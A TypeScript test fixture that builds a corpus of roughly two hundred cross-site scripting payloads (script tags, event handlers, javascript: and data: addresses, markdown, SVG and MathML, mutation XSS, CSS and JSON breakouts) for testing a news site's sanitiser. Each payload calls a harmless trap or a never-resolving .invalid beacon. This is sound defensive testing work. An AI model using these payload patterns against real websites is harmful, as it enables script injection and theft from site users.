/**
 * The XSS corpus: hostile strings for every text field of a news item and for
 * paths and query strings. Each vector that would do harm if it ran or was parsed as markup
 * either calls the page's trap, window.__xss('<its name>') (from a frame of the page's own
 * origin, parent.__xss), or fetches http://xss.invalid/<its name>, which the browser test
 * records and refuses; so a vector that gets through names itself.
 */

/** Where a vector is aimed; every vector still goes into every field. */
export type VectorTarget = 'html' | 'url' | 'markdown' | 'embed' | 'json' | 'text';

export interface XssVector {
  /** Unique, lowercase, with hyphens: it is also a path segment of the network trap. */
  name: string;
  payload: string;
  targets: readonly VectorTarget[];
}

/** The host every network trap calls: .invalid never resolves (RFC 2606), and the test aborts it anyway. */
export const TRAP_HOST = 'xss.invalid';

/** The script a vector runs: a call of the page's trap. */
const run = (name: string) => `__xss('${name}')`;
/** The same from inside a frame of the page's origin (srcdoc, about:blank). */
const runParent = (name: string) => `parent.__xss('${name}')`;
/** An address whose request gives a vector away even where no script runs (an opaque frame, CSS, a preload). */
const beacon = (name: string) => `http://${TRAP_HOST}/${name}`;

/** An HTML fragment that fetches the beacon when parsed as a document. */
const beaconImage = (name: string) => `<img src=${beacon(name)}>`;
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

type Entry = [name: string, targets: readonly VectorTarget[], build: (name: string) => string];

const HTML: readonly VectorTarget[] = ['html', 'markdown', 'embed', 'text'];
const ADDRESS: readonly VectorTarget[] = ['url', 'markdown', 'embed'];

const ENTRIES: readonly Entry[] = [
  // Script tags.
  ['script-plain', HTML, (n) => `<script>${run(n)}</script>`],
  ['script-mixed-case', HTML, (n) => `<ScRiPt>${run(n)}</sCrIpT>`],
  ['script-src-remote', HTML, (n) => `<script src="${beacon(n)}"></script>`],
  ['script-src-data', HTML, (n) => `<script src="data:text/javascript,${run(n)}"></script>`],
  ['script-with-attributes', HTML, (n) => `<script type="text/javascript" defer async charset="utf-8">${run(n)}</script>`],
  ['script-module', HTML, (n) => `<script type=module>${run(n)}</script>`],
  ['script-unclosed', HTML, (n) => `<script>${run(n)}`],
  ['script-split', HTML, (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`],
  ['script-slash-separator', HTML, (n) => `<script/x>${run(n)}</script>`],
  ['script-newlines-in-tags', HTML, (n) => `<script\n>${run(n)}</script\n>`],
  ['script-after-comment', HTML, (n) => `<!--><script>${run(n)}</script>-->`],
  ['script-html-entities', HTML, (n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`],
  ['script-percent-encoded', ['url', 'text'], (n) => `%3Cscript%3E${run(n)}%3C/script%3E`],
  ['script-double-percent-encoded', ['url', 'text'], (n) => `%253Cscript%253E${run(n)}%253C/script%253E`],
  ['script-cdata', HTML, (n) => `<![CDATA[<script>${run(n)}</script>]]>`],

  // Event handlers on many elements.
  ['img-onerror', HTML, (n) => `<img src=x onerror="${run(n)}">`],
  ['img-onerror-unquoted', HTML, (n) => `<img src=x onerror=${run(n)}>`],
  ['img-slash-separators', HTML, (n) => `<img/src="x"/onerror=${run(n)}>`],
  ['img-onerror-entities', HTML, (n) => `<img src=x onerror="&#95;&#95;xss('${n}')">`],
  ['img-onload-data', HTML, (n) => `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${run(n)}">`],
  ['img-remote', HTML, (n) => `<img src="${beacon(n)}">`],
  ['img-srcset-remote', HTML, (n) => `<img srcset="${beacon(n)} 1x">`],
  ['svg-onload', HTML, (n) => `<svg onload="${run(n)}"><circle r="1"/></svg>`],
  ['svg-slash-onload', HTML, (n) => `<svg/onload=${run(n)}>`],
  ['body-onload', HTML, (n) => `<body onload="${run(n)}">`],
  ['body-onpageshow', HTML, (n) => `<body onpageshow="${run(n)}">`],
  ['details-ontoggle', HTML, (n) => `<details open ontoggle="${run(n)}"><summary>x</summary></details>`],
  ['video-onerror', HTML, (n) => `<video src=x onerror="${run(n)}"></video>`],
  ['video-source-onerror', HTML, (n) => `<video><source src=x onerror="${run(n)}"></video>`],
  ['video-poster-remote', HTML, (n) => `<video poster="${beacon(n)}"></video>`],
  ['audio-onerror', HTML, (n) => `<audio src=x onerror="${run(n)}"></audio>`],
  ['input-autofocus-onfocus', HTML, (n) => `<input autofocus onfocus="${run(n)}">`],
  ['textarea-autofocus-onfocus', HTML, (n) => `<textarea autofocus onfocus="${run(n)}"></textarea>`],
  ['select-autofocus-onfocus', HTML, (n) => `<select autofocus onfocus="${run(n)}"></select>`],
  ['div-tabindex-onfocus', HTML, (n) => `<div tabindex=0 autofocus onfocus="${run(n)}">x</div>`],
  ['input-image-onerror', HTML, (n) => `<input type=image src=x onerror="${run(n)}">`],
  ['marquee-onstart', HTML, (n) => `<marquee onstart="${run(n)}">x</marquee>`],
  ['div-onmouseover-fullscreen', HTML, (n) => `<div onmouseover="${run(n)}" style="position:fixed;inset:0;z-index:99">x</div>`],
  ['a-onclick', HTML, (n) => `<a href="#" onclick="${run(n)}">x</a>`],
  ['iframe-onload', HTML, (n) => `<iframe onload="${run(n)}"></iframe>`],
  ['object-onerror', HTML, (n) => `<object data=x onerror="${run(n)}"></object>`],
  ['style-onload', HTML, (n) => `<style onload="${run(n)}"></style>`],
  ['link-onload', HTML, (n) => `<link rel=stylesheet href=x onload="${run(n)}" onerror="${run(n)}">`],
  ['animation-onanimationstart', HTML, (n) => `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${run(n)}">x</div>`],
  ['custom-element-onpointerenter', HTML, (n) => `<xss-el onpointerenter="${run(n)}" style="display:block;position:fixed;inset:0">x</xss-el>`],
  ['popover-onbeforetoggle', HTML, (n) => `<div popover id=p onbeforetoggle="${run(n)}">x</div><button popovertarget=p autofocus>x</button>`],

  // javascript:, vbscript: and data: addresses, plain and encoded.
  ['js-url-plain', ADDRESS, (n) => `javascript:${run(n)}`],
  ['js-url-mixed-case', ADDRESS, (n) => `JaVaScRiPt:${run(n)}`],
  ['js-url-leading-spaces', ADDRESS, (n) => `   javascript:${run(n)}`],
  ['js-url-leading-control', ADDRESS, (n) => `\u0001\u0002javascript:${run(n)}`],
  ['js-url-tab-inside', ADDRESS, (n) => `java\tscript:${run(n)}`],
  ['js-url-newline-inside', ADDRESS, (n) => `java\nscript:${run(n)}`],
  ['js-url-carriage-return-inside', ADDRESS, (n) => `jav\r\nascript:${run(n)}`],
  ['js-url-entity-decimal', ADDRESS, (n) => `&#106;avascript:${run(n)}`],
  ['js-url-entity-hex', ADDRESS, (n) => `&#x6A;avascript:${run(n)}`],
  ['js-url-entity-padded', ADDRESS, (n) => `&#0000106&#0000097vascript:${run(n)}`],
  ['js-url-entity-colon', ADDRESS, (n) => `javascript&colon;${run(n)}`],
  ['js-url-entity-tab', ADDRESS, (n) => `java&Tab;script:${run(n)}`],
  ['js-url-percent-body', ADDRESS, (n) => `javascript:%5F%5Fxss('${n}')`],
  ['js-url-percent-scheme', ADDRESS, (n) => `%6Aavascript:${run(n)}`],
  ['js-url-comment-newline', ADDRESS, (n) => `javascript://%0a${run(n)}`],
  ['js-url-http-lookalike', ADDRESS, (n) => `javascript:${run(n)}//http://example.com/`],
  ['js-url-zero-width', ADDRESS, (n) => `java\u200bscript:${run(n)}`],
  ['vbscript-url', ADDRESS, (n) => `vbscript:msgbox("${n}")`],
  ['vbscript-url-mixed-case', ADDRESS, (n) => `VbScRiPt:msgbox("${n}")`],
  ['data-html-url', ADDRESS, (n) => `data:text/html,${beaconImage(n)}`],
  ['data-html-base64-url', ADDRESS, (n) => `data:text/html;base64,${base64(beaconImage(n))}`],
  ['data-svg-url', ADDRESS, (n) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run(n)}"/>`],
  ['data-svg-base64-url', ADDRESS, (n) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${beacon(n)}"/></svg>`)}`],
  ['data-javascript-url', ADDRESS, (n) => `data:text/javascript,${run(n)}`],
  ['data-url-mixed-case', ADDRESS, (n) => `DaTa:TeXt/HtMl,${beaconImage(n)}`],
  ['protocol-relative-url', ADDRESS, (n) => `//${TRAP_HOST}/${n}`],

  // Markdown links, images, autolinks and references. (No image on another host: spec §5 lets a
  // body show http(s) images from anywhere, so such a request is the site working, not a way out.)
  ['md-link-js', ['markdown'], (n) => `[click](javascript:${run(n)})`],
  ['md-link-js-mixed-case', ['markdown'], (n) => `[click](JAVASCRIPT:${run(n)})`],
  ['md-link-js-entity', ['markdown'], (n) => `[click](&#106;avascript:${run(n)})`],
  ['md-link-js-escaped-colon', ['markdown'], (n) => `[click](javascript\\:${run(n)})`],
  ['md-link-js-angle', ['markdown'], (n) => `[click](<javascript:${run(n)}>)`],
  ['md-link-js-title', ['markdown'], (n) => `[click](javascript:${run(n)} "title")`],
  ['md-link-js-leading-space', ['markdown'], (n) => `[click](<  javascript:${run(n)}>)`],
  ['md-link-data', ['markdown'], (n) => `[click](data:text/html;base64,${base64(beaconImage(n))})`],
  ['md-link-vbscript', ['markdown'], (n) => `[click](vbscript:msgbox("${n}"))`],
  ['md-link-html-label', ['markdown'], (n) => `[<img src=x onerror="${run(n)}">](https://example.com/)`],
  ['md-link-title-breakout', ['markdown'], (n) => `[click](https://example.com/ "x\\" onmouseover=\\"${run(n)}")`],
  ['md-image-js', ['markdown'], (n) => `![pic](javascript:${run(n)})`],
  ['md-image-data-svg', ['markdown'], (n) => `![pic](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run(n)}"/>`)})`],
  ['md-image-alt-breakout', ['markdown'], (n) => `![x" onerror="${run(n)}](/xnews/logo-600x60.png)`],
  ['md-autolink-js', ['markdown'], (n) => `<javascript:${run(n)}>`],
  ['md-autolink-data', ['markdown'], (n) => `<data:text/html;base64,${base64(beaconImage(n))}>`],
  ['md-reference-js', ['markdown'], (n) => `[click][${n}]\n\n[${n}]: javascript:${run(n)}`],
  ['md-reference-angle-js', ['markdown'], (n) => `[click][${n}]\n\n[${n}]: <JavaScript:${run(n)}> "t"`],
  ['md-reference-image-js', ['markdown'], (n) => `![pic][${n}]\n\n[${n}]: javascript:${run(n)}`],
  ['md-html-block', ['markdown'], (n) => `<div>\n<script>${run(n)}</script>\n</div>`],
  ['md-html-inline-link', ['markdown'], (n) => `<a href="javascript:${run(n)}">click</a>`],
  ['md-table-cell-html', ['markdown'], (n) => `| a | b |\n|:-:|--:|\n| <img src=x onerror="${run(n)}"> | <svg onload="${run(n)}"> |`],
  ['md-code-span-html', ['markdown'], (n) => `\`<script>${run(n)}</script>\``],
  ['md-gfm-autolink-quote', ['markdown'], (n) => `https://example.com/"onmouseover="${run(n)}"`],

  // SVG.
  ['svg-script', HTML, (n) => `<svg><script>${run(n)}</script></svg>`],
  ['svg-script-cdata', HTML, (n) => `<svg><script><![CDATA[${run(n)}]]></script></svg>`],
  ['svg-script-href-data', HTML, (n) => `<svg><script href="data:,${run(n)}"></script></svg>`],
  ['svg-animate-onbegin', HTML, (n) => `<svg><animate onbegin="${run(n)}" attributeName=x dur=1s></animate></svg>`],
  ['svg-set-onbegin', HTML, (n) => `<svg><set onbegin="${run(n)}" attributeName=x to=1></set></svg>`],
  ['svg-a-xlink-href', HTML, (n) => `<svg><a xlink:href="javascript:${run(n)}"><text x=20 y=20>click</text></a></svg>`],
  ['svg-animate-href', HTML, (n) => `<svg><a><animate attributeName=href values="javascript:${run(n)}"/><text x=20 y=20>click</text></a></svg>`],
  ['svg-use-data-href', HTML, (n) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${beacon(n)}"/></svg>`)}#x"/></svg>`],
  ['svg-image-onerror', HTML, (n) => `<svg><image href=x onerror="${run(n)}"/></svg>`],
  ['svg-foreignobject-img', HTML, (n) => `<svg><foreignObject><img src=x onerror="${run(n)}"></foreignObject></svg>`],
  ['svg-feimage-remote', HTML, (n) => `<svg><filter id=f><feImage href="${beacon(n)}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`],
  ['svg-style-import', HTML, (n) => `<svg><style>@import '${beacon(n)}';</style></svg>`],

  // MathML.
  ['math-mglyph-style', HTML, (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${run(n)}"></style></mglyph></table></mtext></math>`],
  ['math-href', HTML, (n) => `<math href="javascript:${run(n)}"><mi>click</mi></math>`],
  ['math-maction-xlink', HTML, (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run(n)}">click<mtext>x</mtext></maction></math>`],
  ['math-mtext-svg-style', HTML, (n) => `<math><mtext><mglyph><svg><mtext><style><img src=x onerror="${run(n)}"></style></mtext></svg></mglyph></mtext></math>`],
  ['math-annotation-xml', HTML, (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${run(n)}"></annotation-xml></math>`],
  ['math-mi-table-textarea', HTML, (n) => `<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${run(n)}>"></textarea></mtext></svg></mglyph></mi></table></mi></math>`],

  // Mutation XSS: markup that changes meaning when parsed, serialised and parsed again.
  ['mxss-svg-p-style', HTML, (n) => `<svg></p><style><a id="</style><img src=1 onerror=${run(n)}>">`],
  ['mxss-svg-p-title', HTML, (n) => `<svg><p><style><g title="</style><img src=x onerror=${run(n)}>">`],
  ['mxss-noscript-title', HTML, (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`],
  ['mxss-style-in-style', HTML, (n) => `<style><style/><img src=x onerror=${run(n)}>`],
  ['mxss-title', HTML, (n) => `<title><a title="</title><img src=x onerror=${run(n)}>">`],
  ['mxss-textarea', HTML, (n) => `<textarea><img title="</textarea><img src=x onerror=${run(n)}>"></textarea>`],
  ['mxss-template', HTML, (n) => `<template><img src=x onerror="${run(n)}"></template><template><script>${run(n)}</script></template>`],
  ['mxss-xmp', HTML, (n) => `<xmp><img title="</xmp><img src=x onerror=${run(n)}>">`],
  ['mxss-iframe-text', HTML, (n) => `<iframe><img title="</iframe><img src=x onerror=${run(n)}>"></iframe>`],
  ['mxss-noembed', HTML, (n) => `<noembed><img title="</noembed><img src=x onerror=${run(n)}>"></noembed>`],
  ['mxss-noframes', HTML, (n) => `<noframes><img title="</noframes><img src=x onerror=${run(n)}>"></noframes>`],
  ['mxss-plaintext', HTML, (n) => `<plaintext><img src=x onerror=${run(n)}>`],
  ['mxss-comment-close', HTML, (n) => `<!--><img src=x onerror=${run(n)}>-->`],
  ['mxss-comment-in-attribute', HTML, (n) => `<a title="--><img src=x onerror=${run(n)}>"><!--`],
  ['mxss-processing-instruction', HTML, (n) => `<?xml-stylesheet > <img src=x onerror="${run(n)}"> ?>`],
  ['mxss-form-nesting', HTML, (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run(n)}>`],
  ['mxss-select-template', HTML, (n) => `<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=${run(n)}>">`],
  ['mxss-svg-desc-comment', HTML, (n) => `<svg><desc><![CDATA[</desc><img src=x onerror=${run(n)}>]]></svg>`],
  ['mxss-backtick-attribute', HTML, (n) => `<img src="x\` \`<script>${run(n)}</script>"\`>`],

  // Frames, plugins and the document's own elements.
  ['iframe-srcdoc', HTML, (n) => `<iframe srcdoc="<script>${runParent(n)}</script>"></iframe>`],
  ['iframe-srcdoc-entities', HTML, (n) => `<iframe srcdoc="&lt;img src=x onerror=${runParent(n)}&gt;"></iframe>`],
  ['iframe-src-js', HTML, (n) => `<iframe src="javascript:${runParent(n)}"></iframe>`],
  ['iframe-src-data', HTML, (n) => `<iframe src="data:text/html,${beaconImage(n)}"></iframe>`],
  ['iframe-src-remote', HTML, (n) => `<iframe src="${beacon(n)}"></iframe>`],
  ['iframe-protocol-relative', HTML, (n) => `<iframe src="//${TRAP_HOST}/${n}"></iframe>`],
  ['iframe-host-lookalike', HTML, (n) => `<iframe src="https://www.youtube.com.${TRAP_HOST}/embed/${n}"></iframe>`],
  ['iframe-host-userinfo', HTML, (n) => `<iframe src="https://www.youtube.com@${TRAP_HOST}/embed/${n}"></iframe>`],
  ['iframe-allowed-host-hostile-attributes', HTML, (n) => `<iframe src="https://www.youtube.com/embed/${n}" srcdoc="<script>${runParent(n)}</script>" onload="${run(n)}" style="position:fixed;inset:0" name="x" allow="camera"></iframe>`],
  ['frameset-frame-js', HTML, (n) => `<frameset><frame src="javascript:${runParent(n)}"></frameset>`],
  ['object-data-js', HTML, (n) => `<object data="javascript:${run(n)}"></object>`],
  ['object-data-html', HTML, (n) => `<object data="data:text/html,${beaconImage(n)}"></object>`],
  ['embed-src-js', HTML, (n) => `<embed src="javascript:${run(n)}">`],
  ['embed-src-remote', HTML, (n) => `<embed src="${beacon(n)}">`],
  ['portal-src-remote', HTML, (n) => `<portal src="${beacon(n)}"></portal>`],
  ['base-href', HTML, (n) => `<base href="http://${TRAP_HOST}/${n}/">`],
  ['meta-refresh-js', HTML, (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`],
  ['meta-refresh-remote', HTML, (n) => `<meta http-equiv="refresh" content="0;url=${beacon(n)}">`],
  ['form-action-js', HTML, (n) => `<form action="javascript:${run(n)}"><button autofocus>go</button></form>`],
  ['button-formaction-js', HTML, (n) => `<form><button formaction="javascript:${run(n)}">go</button></form>`],
  ['link-import', HTML, (n) => `<link rel=import href="${beacon(n)}">`],
  ['link-stylesheet-remote', HTML, (n) => `<link rel=stylesheet href="${beacon(n)}">`],
  ['link-prefetch-remote', HTML, (n) => `<link rel=prefetch href="${beacon(n)}">`],
  ['a-ping-remote', HTML, (n) => `<a href="#" ping="${beacon(n)}">x</a>`],

  // CSS tricks.
  ['css-background-js', HTML, (n) => `<div style="background:url(javascript:${run(n)})">x</div>`],
  ['css-background-remote', HTML, (n) => `<div style="background-image:url(${beacon(n)})">x</div>`],
  ['css-expression', HTML, (n) => `<div style="width:expression(${run(n)})">x</div>`],
  ['css-escaped-url', HTML, (n) => `<div style="background:\\75\\72\\6c(${beacon(n)})">x</div>`],
  ['css-moz-binding', HTML, (n) => `<div style="-moz-binding:url(${beacon(n)}#x)">x</div>`],
  ['css-import', HTML, (n) => `<style>@import url(${beacon(n)});</style>`],
  ['css-font-face', HTML, (n) => `<style>@font-face{font-family:x;src:url(${beacon(n)})}body{font-family:x}</style>`],
  ['css-attribute-exfiltration', HTML, (n) => `<style>*[class]{background:url(${beacon(n)})}</style>`],
  ['css-style-breakout', HTML, (n) => `<style></style><script>${run(n)}</script></style>`],
  ['css-style-comment-breakout', HTML, (n) => `<style>/*</style><script>${run(n)}</script>*/</style>`],

  // Breaking out of attributes and of JSON in a script element (the bootstrap data and JSON-LD).
  ['attr-double-quote-handler', ['text', 'url'], (n) => `" onmouseover="${run(n)}" autofocus onfocus="${run(n)}" x="`],
  ['attr-single-quote-script', ['text', 'url'], (n) => `'><script>${run(n)}</script>`],
  ['attr-double-quote-img', ['text', 'url'], (n) => `"><img src=x onerror=${run(n)}>`],
  ['attr-backtick-handler', ['text'], (n) => `\` onmouseover=${run(n)} x=\``],
  ['attr-unquoted-handler', ['text'], (n) => `x onmouseover=${run(n)} autofocus onfocus=${run(n)}`],
  ['attr-url-quote-breakout', ['url'], (n) => `https://example.com/"onmouseover="${run(n)}"`],
  ['attr-path-quote-breakout', ['url'], (n) => `/xnews/logo-600x60.png"onerror="${run(n)}"`],
  ['attr-path-srcset-comma', ['url'], (n) => `/xnews/logo-600x60.png?,${beacon(n)}`],
  ['json-script-close', ['json'], (n) => `</script><script>${run(n)}</script>`],
  ['json-script-close-mixed-case', ['json'], (n) => `</ScRiPt ><script>${run(n)}</script>`],
  ['json-double-escaped-comment', ['json'], (n) => `<!--<script></script><img src=x onerror=${run(n)}>`],
  ['json-ld-close', ['json'], (n) => `</script><script type="text/javascript">${run(n)}</script>`],
  ['json-quote-breakout', ['json'], (n) => `"};${run(n)};//`],
  ['json-line-separators', ['json'], (n) => `\u2028${run(n)}\u2029</script>`],

  // Text that a template engine, or a careless renderer, would evaluate.
  ['template-angular-constructor', ['text'], (n) => `{{constructor.constructor('${run(n)}')()}}`],
  ['template-vue', ['text'], (n) => `{{_c.constructor('${run(n)}')()}}`],
  ['template-literal', ['text'], (n) => `\${${run(n)}}`],
  ['template-jsx-expression', ['text'], (n) => `{${run(n)}}`],
  ['template-react-props', ['text', 'json'], (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run(n)}>"}}`],
  ['template-erb', ['text'], (n) => `<%= ${run(n)} %>`],

  // Unicode tricks.
  ['unicode-fullwidth-script', ['text', 'html'], (n) => `＜script＞${run(n)}＜/script＞`],
  ['unicode-small-form-script', ['text', 'html'], (n) => `﹤script﹥${run(n)}﹤/script﹥`],
  ['unicode-line-separators', ['text', 'json'], (n) => `a\u2028b\u2029<script>${run(n)}</script>`],
  ['unicode-escaped-script', ['text', 'json'], (n) => `\\u003cscript\\u003e${run(n)}\\u003c/script\\u003e`],
  ['unicode-right-to-left-override', ['text'], (n) => `\u202e<img src=x onerror=${run(n)}>\u202c`],
  ['unicode-combining-scheme', ADDRESS, (n) => `javascript\u0338:${run(n)}`],
  ['unicode-nbsp-scheme', ADDRESS, (n) => `\u00a0javascript:${run(n)}`],

  // Very long strings.
  ['long-repeated-script', HTML, (n) => `<script>${run(n)}</script>`.repeat(160)],
  ['long-attribute', HTML, (n) => `<img src=x title="${'a'.repeat(3000)}" onerror="${run(n)}">`],
  ['long-title-sized', HTML, (n) => `<svg onload=${run(n)}>`.repeat(12).slice(0, 280)],
];

function buildCorpus(entries: readonly Entry[]): XssVector[] {
  const names = new Set<string>();
  return entries.map(([name, targets, build]) => {
    if (names.has(name) || !/^[a-z0-9-]+$/.test(name)) throw new Error(`bad or repeated vector name: ${name}`);
    names.add(name);
    return { name, payload: build(name), targets };
  });
}

export const XSS_VECTORS: readonly XssVector[] = buildCorpus(ENTRIES);
